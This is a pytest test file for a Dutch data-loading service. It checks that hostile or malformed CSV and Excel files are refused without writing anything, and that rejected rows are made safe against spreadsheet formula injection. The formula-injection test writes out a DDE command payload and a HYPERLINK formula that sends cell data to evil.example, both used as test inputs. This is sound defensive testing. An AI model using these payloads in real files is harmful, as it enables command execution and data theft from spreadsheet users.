"""Hostile and broken input files, loaded as an attacker or a careless export would.

Each file is refused before anything is written: the error names the file, the row and
the column (or the encoding, or what the file is), and a snapshot of the graph taken
before the load equals the one after. Refused rows in a reject file cannot run as
formulas in a spreadsheet. A normal Excel export with its empty trailing columns still
loads.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import json
import random
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from graph_service.cli import cli
from graph_service.config import load_settings
from graph_service.security.audit import AuditTrail
from graph_service.store import Store, open_store
from loaders import riec
from loaders.base import LoadError, spreadsheet_safe, sync
from loaders.kvk import SPEC
from tests.support.dump import nodes, relationships, snapshot

FIX = Path(__file__).parent.parent / "fixtures"
GOOD = FIX / "kvk" / "kvk_variants.csv"
TODAY = dt.date(2026, 11, 27)
COLUMNS = GOOD.read_text(encoding="utf-8").splitlines()[0].split(",")
ORG = "kvk:90000099"  # the organisation every hostile file tries to write


def kvk_row(**cells: str) -> list[str]:
    """A valid KvK row (an organisation, its address and a bestuurder), with overrides."""
    row = {
        "kvk_nummer": "90000099", "naam": "Aanval BV", "rechtsvorm": "bv",
        "adres_straat": "Brink", "adres_huisnummer": "5", "adres_postcode": "7941AB",
        "adres_plaats": "Meppel", "functionaris_type": "persoon",
        "functionaris_voornamen": "Jan", "functionaris_geslachtsnaam": "Aanvaller",
        "functionaris_geboortedatum": "1970-01-01", "functie": "bestuurder",
        "peildatum": "2025-06-01",
    }
    row.update(cells)
    return [row.get(c, "") for c in COLUMNS]


def csv_text(rows: list[list[str]], header: list[str] = COLUMNS, delimiter: str = ",") -> str:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


def workbook(rows: list[list[str]]) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    for row in [COLUMNS, *rows]:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def damaged_sheet() -> bytes:
    """A real workbook whose sheet XML breaks off in its third row."""
    src = zipfile.ZipFile(io.BytesIO(workbook([kvk_row(), kvk_row(kvk_nummer="90000098")])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: data.index(b'<row r="3"') + 40]
            dst.writestr(item, data)
    return out.getvalue()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("leesmij.txt", "geen werkmap")
    return out.getvalue()


TEXT = csv_text([kvk_row()])
UTF8 = TEXT.encode()
# a Windows-1252 export (é is 0xE9) whose third row holds 0x81, undefined in Windows-1252
UNDECODABLE = csv_text([kvk_row(naam="Café"), kvk_row(kvk_nummer="90000098", naam="Aan\x00val")
                        ]).encode("cp1252").replace(b"\x00", b"\x81")

# name -> (file name, content, expected (row, column), words the message must hold)
Case = tuple[str, Callable[[], bytes], tuple[int, str], tuple[str, ...]]
CASES: dict[str, Case] = {
    # -- 5. control characters per cell, before any write --------------------------------
    "nul_in_voornamen": ("kvk.csv", lambda: csv_text([
        kvk_row(functionaris_voornamen="Ja\x00n")]).encode(),
        (2, "functionaris_voornamen"), ("U+0000", "NUL", "positie 3")),
    "nul_in_third_row": ("kvk.csv", lambda: csv_text([
        kvk_row(kvk_nummer="90000098"), kvk_row(naam="Aanval\x00BV")]).encode(),
        (3, "naam"), ("U+0000",)),
    "escape_sequence_in_name": ("kvk.csv", lambda: csv_text([
        kvk_row(naam="Aanval \x1b[2J\x1b[31mBV")]).encode(), (2, "naam"), ("U+001B",)),
    "line_break_in_a_name": ("kvk.csv", lambda: csv_text([
        kvk_row(functionaris_geslachtsnaam="Aan\nvaller")]).encode(),
        (2, "functionaris_geslachtsnaam"), ("U+000A", "omschrijving")),
    "c1_control_in_a_place": ("kvk.csv", lambda: csv_text([
        kvk_row(adres_plaats="Mep\x85pel")]).encode(), (2, "adres_plaats"), ("U+0085",)),
    "bidi_override_in_a_name": ("kvk.csv", lambda: csv_text([
        kvk_row(functionaris_geslachtsnaam="Aan\u202eresllav")]).encode(),
        (2, "functionaris_geslachtsnaam"), ("U+202E",)),
    "nul_in_an_ignored_column": ("kvk.csv", lambda: csv_text(
        [[*kvk_row(), "x\x00y"]], header=[*COLUMNS, "opmerking"]).encode(),
        (2, "opmerking"), ("U+0000",)),
    "nul_in_a_column_name": ("kvk.csv", lambda: csv_text(
        [[*kvk_row(), ""]], header=[*COLUMNS, "op\x00merking"]).encode(),
        (1, f"kolom {len(COLUMNS) + 1}"), ("kolomnaam", "U+0000")),
    # XML cannot hold C0 controls other than tab and line breaks; C1 and bidi it can
    "line_break_in_an_xlsx_cell": ("kvk.xlsx", lambda: workbook([
        kvk_row(functionaris_voornamen="Ja\nn")]), (2, "functionaris_voornamen"),
        ("U+000A",)),
    "c1_control_in_an_xlsx_cell": ("kvk.xlsx", lambda: workbook([
        kvk_row(kvk_nummer="90000098"), kvk_row(naam="Aanval\x9bBV")]), (3, "naam"),
        ("U+009B",)),
    # -- 7. encodings and binary files, named ----------------------------------------------
    "utf16_le_with_bom": ("kvk.csv", lambda: codecs.BOM_UTF16_LE + TEXT.encode("utf-16-le"),
                          (1, "-"), ("UTF-16 LE",)),
    "utf16_be_without_bom": ("kvk.csv", lambda: TEXT.encode("utf-16-be"), (1, "-"),
                             ("UTF-16 BE", "zonder BOM")),
    "utf32_le_with_bom": ("kvk.csv", lambda: codecs.BOM_UTF32_LE + TEXT.encode("utf-32-le"),
                          (1, "-"), ("UTF-32 LE",)),
    "utf32_be_without_bom": ("kvk.csv", lambda: TEXT.encode("utf-32-be"), (1, "-"),
                             ("UTF-32 BE",)),
    "ebcdic_mainframe_export": ("kvk.csv", lambda: TEXT.replace("\r\n", "\n").encode("cp500"),
                                (1, "-"), ("EBCDIC",)),
    "elf_program": ("kvk.csv", lambda: b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 8,
                    (1, "-"), ("programma (ELF)",)),
    "pdf_document": ("kvk.csv", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
                     (1, "-"), ("PDF",)),
    "workbook_named_csv": ("kvk.csv", lambda: workbook([kvk_row()]), (1, "-"),
                           ("zip-archief", ".xlsx")),
    "random_bytes": ("kvk.csv", lambda: random.Random(17).randbytes(8192), (1, "-"),
                     ("geen tekstbestand", "binair")),
    "byte_neither_utf8_nor_cp1252": ("kvk.csv", lambda: UNDECODABLE, (3, "-"),
                                     ("0x81", "regel 3", f"byte {UNDECODABLE.index(0x81)}")),
    # -- 7. damaged workbooks ---------------------------------------------------------------
    "truncated_xlsx": ("kvk.xlsx", lambda: workbook([kvk_row()])[:3000], (1, "-"),
                       ("beschadigd of onvolledig",)),
    "csv_named_xlsx": ("kvk.xlsx", lambda: UTF8, (1, "-"), ("tekstbestand", ".csv")),
    "zip_that_is_no_workbook": ("kvk.xlsx", plain_zip, (1, "-"), ("geen leesbare Excel",)),
    "sheet_xml_broken_off": ("kvk.xlsx", damaged_sheet, (3, "-"), ("beschadigd",)),
    # -- 7. limits ----------------------------------------------------------------------------
    "field_of_200k_characters": ("kvk.csv", lambda: csv_text([
        kvk_row(naam="A" * 200_000)]).encode(), (2, "naam"), ("131.072", "maximaal 10.000")),
    "field_of_20k_characters": ("kvk.csv", lambda: csv_text([
        kvk_row(functionaris_voornamen="J" * 20_000)]).encode(),
        (2, "functionaris_voornamen"), ("20.000 tekens", "maximaal 10.000")),
    "line_of_over_a_million_characters": ("kvk.csv", lambda: csv_text([
        kvk_row(), [*kvk_row(kvk_nummer="90000098")[:-1], "A" * 1_100_000]]).encode(),
        (3, "-"), ("regel 3", "1.000.000")),
    "row_with_a_million_trailing_empty_cells": ("kvk.csv", lambda: csv_text([
        kvk_row() + [""] * 1_000_000]).encode(), (2, "-"), ("1.000.000",)),
    "row_with_200_trailing_empty_cells": ("kvk.csv", lambda: csv_text([
        kvk_row() + [""] * 200]).encode(), (2, "-"), ("225 cellen", "maximaal 50")),
    "value_beyond_the_header": ("kvk.csv", lambda: csv_text([
        kvk_row() + ["", "=1+1"]]).encode(), (2, "-"), ("meer waarden",)),
    "header_of_a_million_empty_names": ("kvk.csv", lambda: csv_text(
        [kvk_row()], header=COLUMNS + [""] * 1_000_000).encode(), (1, "-"), ("kopregel",)),
    "header_of_1000_empty_names": ("kvk.csv", lambda: csv_text(
        [kvk_row()], header=COLUMNS + [""] * 1000).encode(), (1, "-"),
        ("1.000 lege kolomnamen", "maximaal 50")),
}


def state(store: Store) -> tuple[Any, Any]:
    """The whole graph and the recorded loads: equal states mean nothing was written."""
    return snapshot(store), store.read("read/last_loads")


def write_case(tmp_path: Path, case: str) -> tuple[Path, tuple[int, str], tuple[str, ...]]:
    name, content, where, words = CASES[case]
    path = tmp_path / name
    path.write_bytes(content())
    return path, where, words


def assert_located(problems: list[Any], path: Path, where: tuple[int, str],
                   words: tuple[str, ...]) -> None:
    row, column = where
    hits = [p for p in problems if (p.file, p.row, p.column) == (str(path), row, column)]
    assert hits, [str(p) for p in problems]
    assert str(hits[0]).startswith(f"{path}:{row}:{column}: ")
    for word in words:
        assert word in hits[0].message, hits[0].message
    for p in problems:  # never the engine's or Python's text, never a raw control character
        assert "errMsg" not in p.message and "Error" not in p.message.replace("Error)", "")
        assert not any(ord(c) < 32 for c in str(p)), repr(str(p))


# cases whose problem is one row; every other file cannot be read (or its header is unusable)
ROW_LEVEL = {
    "nul_in_voornamen", "nul_in_third_row", "escape_sequence_in_name", "line_break_in_a_name",
    "c1_control_in_a_place", "bidi_override_in_a_name", "nul_in_an_ignored_column",
    "line_break_in_an_xlsx_cell", "field_of_20k_characters", "row_with_200_trailing_empty_cells",
    "value_beyond_the_header", "c1_control_in_an_xlsx_cell",
}


def assert_org_not_written(store: Store) -> None:
    """Not the organisation, and no relationship of it (no half-write)."""
    assert ORG not in nodes(store)
    assert all(ORG not in (start, end) for start, _, end, _ in relationships(store))


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_file_is_refused_located_and_writes_nothing(
    store: Store, tmp_path: Path, case: str
) -> None:
    sync(store, SPEC, [GOOD], today=TODAY)
    before = state(store)
    path, where, words = write_case(tmp_path, case)
    with pytest.raises(LoadError) as err:
        sync(store, SPEC, [path], today=TODAY)
    assert_located(err.value.problems, path, where, words)
    assert state(store) == before
    assert_org_not_written(store)


@pytest.mark.parametrize("case", sorted(set(CASES) - ROW_LEVEL))
def test_unreadable_file_is_refused_whole_even_when_skipping_invalid_rows(
    store: Store, tmp_path: Path, case: str
) -> None:
    sync(store, SPEC, [GOOD], today=TODAY)
    before = state(store)
    path, where, words = write_case(tmp_path, case)
    with pytest.raises(LoadError) as err:
        sync(store, SPEC, [path], today=TODAY, skip_invalid=True)
    assert_located(err.value.problems, path, where, words)
    assert state(store) == before
    assert not list(tmp_path.glob("*.afgewezen.csv"))


@pytest.mark.parametrize("case", sorted(ROW_LEVEL))
def test_hostile_row_goes_to_the_reject_file_when_skipping_invalid_rows(
    store: Store, tmp_path: Path, case: str
) -> None:
    path, where, _ = write_case(tmp_path, case)
    report = sync(store, SPEC, [path], today=TODAY, skip_invalid=True)
    assert report.rows_refused == 1
    assert_org_not_written(store)
    if case in ("nul_in_third_row", "c1_control_in_an_xlsx_cell"):
        assert "kvk:90000098" in nodes(store)  # the valid row before it loaded
    reject = path.with_name(path.stem + ".afgewezen.csv")
    with reject.open(encoding="utf-8", newline="") as fh:
        header, refused = list(csv.reader(fh))
    assert header[:2] == ["rij", "redenen"]
    assert refused[0] == str(where[0]) and refused[1].startswith(spreadsheet_safe(f"{where[1]}: "))
    assert not any(0 < ord(c) < 32 and c not in "\t\n\r" or c == "\x00"
                   for cell in refused for c in cell)


# -- 6. formula injection through the reject file ---------------------------------------------
DDE = "=cmd|' /C calc'!A0"


def cell_starts(line: str, delimiter: str) -> list[str]:
    """The cells a spreadsheet splitting on ``delimiter`` sees in ``line``, as it sees them."""
    return [c.lstrip(" ") for c in next(csv.reader([line], delimiter=delimiter))]


def test_reject_file_cells_cannot_run_as_formulas(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "kvk.csv"
    hostile = kvk_row(kvk_nummer="=1+1", naam='=HYPERLINK("http://evil.example/?d="&A1,"klik")',
                      adres_straat="@SUM(A1:A9)", adres_plaats="+31 6 1234",
                      functionaris_voornamen="-2+3", functionaris_geslachtsnaam="Aan\x00valler")
    path.write_text(csv_text([kvk_row(kvk_nummer="90000098"), [*hostile, "x;" + DDE]],
                             header=[*COLUMNS, DDE]), encoding="utf-8")
    report = sync(store, SPEC, [path], today=TODAY, skip_invalid=True)
    assert (report.rows_read, report.rows_refused) == (2, 1)
    assert "kvk:90000098" in nodes(store)
    with (tmp_path / "kvk.afgewezen.csv").open(encoding="utf-8", newline="") as fh:
        header, refused = list(csv.reader(fh))
    assert header == ["rij", "redenen", *COLUMNS, "'" + DDE]
    cell = dict(zip(header, refused, strict=True))
    assert cell["rij"] == "3"
    assert cell["redenen"].startswith("functionaris_geslachtsnaam: ongeldig teken U+0000")
    assert "kvk_nummer: ongeldig KvK-nummer" in cell["redenen"]
    assert cell["kvk_nummer"] == "'=1+1"
    assert cell["naam"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"klik")'
    assert cell["adres_straat"] == "'@SUM(A1:A9)"
    assert cell["adres_plaats"] == "'+31 6 1234"
    assert cell["functionaris_voornamen"] == "'-2+3"
    assert cell["functionaris_geslachtsnaam"] == "Aan\ufffdvaller"  # shown, not passed on
    assert cell["'" + DDE] == "x;'" + DDE
    # opened as written, or by a spreadsheet that splits on semicolons or tabs instead
    text = (tmp_path / "kvk.afgewezen.csv").read_text(encoding="utf-8")
    for delimiter in (",", ";", "\t"):
        for line in text.splitlines():
            assert not [c for c in cell_starts(line, delimiter)
                        if c.startswith(("=", "+", "-", "@", "\t", "\r"))], (delimiter, line)


@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+1", "'=1+1"), ("+31", "'+31"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t'=1"), ("\r=1", "'\r'=1"), ("a=b", "a=b"), ("1-2", "1-2"), ("", ""),
    ("Ja\x00n", "Ja\ufffdn"), ("regel\nregel", "regel\nregel"),
    # a spreadsheet splitting on another delimiter would start a cell after the separator
    ("x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"), ("a, +31", "a, '+31"),
    ("a\t@SUM(A1)", "a\t'@SUM(A1)"), ('"=1"', '"\'=1"'), ("regel\n-2", "regel\n'-2"),
], ids=repr)
def test_spreadsheet_safe_follows_the_owasp_rule(cell: str, shown: str) -> None:
    assert spreadsheet_safe(cell) == shown


# -- what must still load ------------------------------------------------------------------------
def test_excel_cp1252_semicolon_export_with_empty_trailing_columns_loads(
    store: Store, tmp_path: Path
) -> None:
    path = tmp_path / "kvk_excel.csv"
    rows = [kvk_row(naam="Café ’t Hart") + ["", "", ""],
            kvk_row(kvk_nummer="90000098", naam="Brinkzicht") + [""] * 5,
            [""] * (len(COLUMNS) + 3)]
    path.write_bytes(csv_text(rows, header=[*COLUMNS, "", "", ""], delimiter=";")
                     .encode("cp1252"))
    report = sync(store, SPEC, [path], today=TODAY)
    assert (report.rows_read, report.rows_refused, report.ignored_columns) == (2, 0, [])
    found = nodes(store)
    assert found[ORG]["name"] == "Café ’t Hart" and found["kvk:90000098"]["name"] == "Brinkzicht"
    assert any(end == ORG for _, rtype, end, _ in relationships(store)
               if rtype == "FUNCTIONARY_OF")


def test_xlsx_with_an_unnamed_column_and_empty_trailing_columns_loads_aligned(
    store: Store, tmp_path: Path
) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["kvk_nummer", "", "naam", "rechtsvorm", None, None])
    ws.append(["90000099", "notitie", "Aanval BV", "bv", None, None])
    ws.cell(row=2, column=9).number_format = "0.00"  # formatting far to the right, no value
    wb.save(tmp_path / "kvk.xlsx")
    report = sync(store, SPEC, [tmp_path / "kvk.xlsx"], today=TODAY)
    assert (report.rows_read, report.rows_refused, report.ignored_columns) == (1, 0, [""])
    assert nodes(store)[ORG]["name"] == "Aanval BV"
    assert nodes(store)[ORG]["rechtsvorm"] == "bv"


def test_line_breaks_and_tabs_stay_in_a_free_text_description(
    store: Store, tmp_path: Path
) -> None:
    path = tmp_path / "signals.csv"
    text = (FIX / "riec" / "signals.csv").read_text(encoding="utf-8")
    path.write_text(text.replace("Hennepgeur, ramen afgeplakt",
                                 "Hennepgeur,\r\nramen\tafgeplakt"), encoding="utf-8")
    report = sync(store, riec.SPEC, [path], today=dt.date(2025, 6, 30))
    assert report.rows_refused == 0
    assert nodes(store)["signal:RIEC-2025-0193"]["omschrijving"] == (
        "Hennepgeur,\r\nramen\tafgeplakt")


# -- the same through the command line ----------------------------------------------------------
@pytest.fixture
def data_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("ONDERGRAAF_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("ONDERGRAAF_NEO4J_URI", raising=False)
    return tmp_path / "data"


def graph_state() -> tuple[Any, Any]:
    store = open_store(load_settings())
    try:
        return state(store)
    finally:
        store.close()


@pytest.mark.parametrize("case", ["nul_in_voornamen", "elf_program", "truncated_xlsx",
                                  "field_of_200k_characters", "utf16_le_with_bom",
                                  "row_with_a_million_trailing_empty_cells"])
def test_cli_refuses_a_hostile_file_with_exit_2_and_located_dutch_lines(
    data_env: Path, tmp_path: Path, case: str
) -> None:
    runner = CliRunner()
    assert runner.invoke(cli, ["load", "kvk", str(GOOD)]).exit_code == 0
    before = graph_state()
    path, (row, column), words = write_case(tmp_path, case)
    out = runner.invoke(cli, ["load", "kvk", str(path)])
    assert out.exit_code == 2, out.output
    assert "Traceback" not in out.output and "errMsg" not in out.output
    located = [line for line in out.output.splitlines()
               if line.startswith(f"{path}:{row}:{column}: ")]
    assert located and all(word in located[0] for word in words), out.output
    assert "er is niets geschreven" in out.output
    assert graph_state() == before
    records = list(AuditTrail.open(load_settings()).read(action="load"))
    assert [r["outcome"] for r in records] == ["ok", "refused"]


def test_cli_loads_the_excel_export_with_empty_trailing_columns(
    data_env: Path, tmp_path: Path
) -> None:
    path = tmp_path / "kvk_excel.csv"
    path.write_bytes(csv_text([kvk_row(naam="Café ’t Hart") + ["", ""]],
                              header=[*COLUMNS, "", ""], delimiter=";").encode("cp1252"))
    out = CliRunner().invoke(cli, ["load", "kvk", str(path), "--json"])
    assert out.exit_code == 0, out.output
    assert json.loads(out.output)["rows_read"] == 1
    store = open_store(load_settings())
    try:
        assert nodes(store)[ORG]["name"] == "Café ’t Hart"
    finally:
        store.close()
